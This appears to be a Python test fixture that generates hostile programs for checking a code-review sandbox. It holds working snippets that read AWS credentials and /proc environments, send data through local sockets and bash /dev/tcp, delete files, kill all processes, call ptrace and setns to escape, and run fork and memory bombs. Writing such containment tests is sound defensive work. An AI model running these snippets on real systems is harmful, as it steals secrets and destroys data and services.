"""Code of people who mean harm, as it would stand in a pull request's `stacks/`: what it would do without walls.

Each program is Python, given `Target`: what it aims at. Whatever it gets hold of it prints, writes into its output and
sends. Programs that take (`bombs`) must be ended by a bound; the others may end as they like.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from typing import Final

CANARY: Final = "canary-77c1e0"


@dataclass(frozen=True, slots=True)
class Target:
    """`secret`: a file of the user's. `home`: his home. `outside`: a folder that stays empty. `own`: the program's."""

    secret: Path
    home: Path
    outside: Path
    own: Path
    port: int  # of a server on this machine
    socket: Path  # of another
    parent: int  # a process of the user's, with the canary in its environment


_TELL = """\
import os, sys
def tell(found):
    sys.stderr.write(repr(found)); sys.stderr.flush()
    open(os.environ["CDK_OUTDIR"] + "/manifest.json", "a").write(repr(found))
def attempt(code):
    try: return code()
    except BaseException as error: return type(error).__name__
"""


def attacks(target: Target) -> Iterator[tuple[str, str]]:
    """Every program by its name; none of them is to reach anything."""
    for name, body in (*_reads(target), *_sends(target), *_writes(target), *_others(target), *_ways_out(target)):
        yield name, _TELL + body


def bombs() -> Iterator[tuple[str, str, str]]:
    """Name, program, and a word of the bound that has to end it; "" where the kernel refuses it what it asks for."""
    forks = {
        "forks": "while True: os.fork()",
        "forks that leave the session": "while True:\n if not os.fork(): os.setsid()",
        "a chain of forks": "import time\nif os.fork(): time.sleep(999)\nwhile True:\n if os.fork(): os._exit(0)",
        "orphans that sleep": "for _ in range(300):\n if not os.fork():\n  import time; time.sleep(999)",
    }
    for name, code in forks.items():
        yield name, "import os\n" + code, "more than"
    yield "one list", "held = []\nwhile True: held.append(bytearray(8 << 20))", ""
    for name, code in {
        "ten processes' lists": "for _ in range(10):\n if not os.fork():\n"
        "  held = bytearray(80 << 20); time.sleep(999)\ntime.sleep(999)",
        "shared memory": "m = mmap.mmap(-1, 900 << 20)\n"
        "for at in range(0, 900 << 20, 4096): m[at] = 1\ntime.sleep(999)",
        "files and lists": "for at in range(6): open(f'/tmp/{at}', 'wb').write(bytes(60 << 20))\n"
        "for _ in range(8):\n if not os.fork():\n  held = bytearray(60 << 20); time.sleep(999)\ntime.sleep(999)",
        "sockets full of bytes": "for _ in range(30):\n if not os.fork():\n"
        "  held = [socket.socketpair() for _ in range(100)]\n"
        "  [one.setblocking(False) or one.send(bytes(1 << 20)) for pair in held for one in pair]\n  time.sleep(999)\n"
        "time.sleep(999)",
    }.items():
        yield name, "import os, time, mmap, socket\n" + code, "memory"
    for name, code in {
        "files": "for at in range(10**6): open(f'/tmp/{at}', 'wb').write(bytes(32 << 20))",
        "one file": "f = open('/tmp/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
        "names": "for at in range(10**6): open(f'/tmp/{at}', 'w')",
        "its own words": "import sys\nwhile True: sys.stderr.write('x' * 65536)",
        "memory without a name": "import os\nos.memfd_create('x')",
    }.items():
        yield name, code, ""
    yield "a loop", "while True: pass", "processor time"
    yield "a loop in many", "import os\n[os.fork() for _ in range(3)]\nwhile True: pass", "processor time"
    yield "sleep", "import time\ntime.sleep(999)", "waiting"
    yield "a stop", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "waiting"
    yield "a pipe that nobody writes to", "import os\nos.mkfifo('/tmp/p')\nopen('/tmp/p').read()", "waiting"


def _reads(target: Target) -> Iterator[tuple[str, str]]:
    up = "../" * 30
    places = {
        "by its path": str(target.secret),
        "up from here": up + str(target.secret).lstrip("/"),
        "in the home": f"{target.home}/.aws/credentials",
        "by ~": "~/.aws/credentials",
        "by a parent's root": f"/proc/{target.parent}/root{target.secret}",
        "by the first process's root": f"/proc/1/root{target.secret}",
        "by its own root": f"/proc/self/root{target.secret}",
        "in a parent's variables": f"/proc/{target.parent}/environ",
        "in the first process's variables": "/proc/1/environ",
        "in the first process's memory": "/proc/1/mem",
    }
    ways = {
        "open": "tell(attempt(lambda: open(os.path.expanduser({0!r}), 'rb').read(999)))",
        "cat": "import subprocess\ntell(subprocess.run(['cat', os.path.expanduser({0!r})], capture_output=True))",
        "a link": "os.symlink({0!r}, '/tmp/link')\ntell(attempt(lambda: open('/tmp/link').read()))",
        "a link as its output": "os.symlink({0!r}, os.environ['CDK_OUTDIR'] + '/manifest.json')",
        "a hard link": "tell(attempt(lambda: (os.link({0!r}, '/tmp/hard'), open('/tmp/hard').read())))",
        "Node": "import subprocess\n"
        "tell(subprocess.run(['node', '-p', 'require(\"fs\").readFileSync({0!r})+\"\"'], capture_output=True))",
    }
    for (place, path), (way, code) in product(places.items(), ways.items()):
        yield f"reads {place} with {way}", code.format(path)
    yield "lists the home", f"tell(attempt(lambda: os.listdir({str(target.home)!r})))"
    yield (
        "walks through all",
        (
            "for folder, _, files in os.walk('/', onerror=None):\n"
            "  if folder.startswith(('/proc', '/sys', '/usr', '/lib')): continue\n"
            "  for name in files:\n"
            f"    if name in ({target.secret.name!r}, 'credentials'):\n"
            "      tell(attempt(lambda: open(folder + '/' + name).read()))"
        ),
    )
    yield "shows its variables", "tell(dict(os.environ))"
    yield (
        "searches all processes",
        ("import glob\nfor one in glob.glob('/proc/*/environ'): tell(attempt(lambda: open(one).read()))"),
    )


def _sends(target: Target) -> Iterator[tuple[str, str]]:
    families = {
        "TCP": f"s = socket.socket(); s.connect(('127.0.0.1', {target.port})); s.send(b'x')",
        "UDP": f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {target.port}))",
        "IPv6": f"socket.socket(socket.AF_INET6).connect(('::1', {target.port}))",
        "a socket with a path": f"socket.socket(socket.AF_UNIX).connect({str(target.socket)!r})",
        "a raw socket": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)",
        "a name": "socket.getaddrinfo('localhost.example', 80)",
    }
    for name, code in families.items():
        yield f"sends by {name}", f"import socket\ndef go():\n  {code}\n  return 'SENT'\ntell(attempt(go))"
    yield (
        "sends by Node",
        (
            "import subprocess\ntell(subprocess.run(['node', '-e', "
            f'\'require("net").connect({target.port},"127.0.0.1",()=>console.log("SE"+"NT"))\'], capture_output=True))'
        ),
    )
    yield (
        "sends by a shell",
        (
            "import subprocess\ntell(subprocess.run(['bash', '-c', "
            f"'echo x >/dev/tcp/127.0.0.1/{target.port} && echo SE\"\"NT'], capture_output=True))"
        ),
    )


def _writes(target: Target) -> Iterator[tuple[str, str]]:
    places = {"outside": target.outside, "beside itself": target.own, "in the home": target.home}
    for name, place in {**places, **{name: Path(name) for name in ("/tmp/..", "/dev/shm", "/var/tmp")}}.items():
        file = str(place / "loadproof-hostile")
        yield f"writes {name}", f"tell(attempt(lambda: open({file!r}, 'w').write('x')))"
    yield (
        "changes its libraries",
        ("import yaml\ntell(attempt(lambda: open(os.path.dirname(yaml.__file__) + '/loadproof-hostile', 'w')))"),
    )
    yield "takes away its own code", f"import shutil\nshutil.rmtree({str(target.own)!r}, ignore_errors=True)"
    yield "changes rights", f"tell(attempt(lambda: os.chmod({str(target.own)!r}, 0o777)))"
    yield "changes the secret", f"tell(attempt(lambda: open({str(target.secret)!r}, 'w').write('x')))"


def _others(target: Target) -> Iterator[tuple[str, str]]:
    for name in ("SIGKILL", "SIGSTOP", "SIGTERM"):
        for who, pid in {
            "its parent": "os.getppid()",
            "the review": str(target.parent),
            "the first": "1",
            "all": "-1",
            "its group": "0",
        }.items():
            yield f"{name} to {who}", f"import signal\nattempt(lambda: os.kill({pid}, signal.{name}))"
    yield "ends its group", "import signal\nattempt(lambda: os.killpg(os.getpgrp(), signal.SIGKILL))"
    yield (
        "lets others stay",
        ("for _ in range(5):\n  if not os.fork():\n    os.setsid(); os.execvp('sleep', ['sleep', '987'])\n"),
    )


def _ways_out(target: Target) -> Iterator[tuple[str, str]]:
    libc = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    for name, call in {
        "ptrace": "libc.ptrace(16, 1, 0, 0)",
        "unshare": "libc.unshare(0x10020000)",
        "mount": "libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None)",
        "umount": "libc.umount2(b'/tmp', 2)",
        "chroot": "libc.chroot(b'/')",
        "setns": "libc.setns(os.open('/proc/1/ns/mnt', 0), 0)",
        "process_vm_readv": "libc.process_vm_readv(1, None, 0, None, 0, 0)",
    }.items():
        yield f"calls {name}", f"{libc}if attempt(lambda: {call}) == 0: tell('SENT')"
    for name in ("../up.json", "a\\nb.json", "x" * 200 + ".json"):
        yield (
            f"an output called {name[:9]}",
            f"attempt(lambda: open(os.environ['CDK_OUTDIR'] + '/{name}', 'w').write('x'))",
        )
    yield "an output that is a pipe", "os.mkfifo(os.environ['CDK_OUTDIR'] + '/manifest.json')"
    yield "an output that is a folder", "os.mkdir(os.environ['CDK_OUTDIR'] + '/manifest.json')"
    yield "an output full of holes", "open(os.environ['CDK_OUTDIR'] + '/manifest.json', 'w').truncate(60 << 20)"
    yield (
        "ten thousand outputs",
        ("for at in range(10_100): open(os.environ['CDK_OUTDIR'] + f'/{at}.json', 'w').write('{}')"),
    )
